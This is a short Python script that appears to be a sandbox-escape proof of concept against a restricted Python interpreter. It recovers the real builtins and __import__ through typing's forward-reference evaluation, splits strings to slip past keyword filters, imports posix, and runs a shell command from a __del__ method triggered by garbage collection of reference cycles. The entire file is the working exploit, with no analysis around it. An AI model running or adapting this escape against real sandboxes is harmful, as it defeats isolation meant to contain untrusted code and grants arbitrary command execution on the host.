# busy: no gc module: cycles with __del__ collected by the automatic gc, sometimes inside the hook
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one

p = imp("pos" + "ix")
done = []
class Bomb:
    def __del__(self):
        if done:
            return
        try:
            p.system("echo PWN''ED from __del__; id")
            done.append(1)
        except Exception:
            pass
def garbage():
    a = Bomb()
    a.me = a
for i in range(20000):
    if done:
        break
    garbage()
    try:
        open("/tmp/rt_busy_del", "w").close()
    except Exception:
        pass
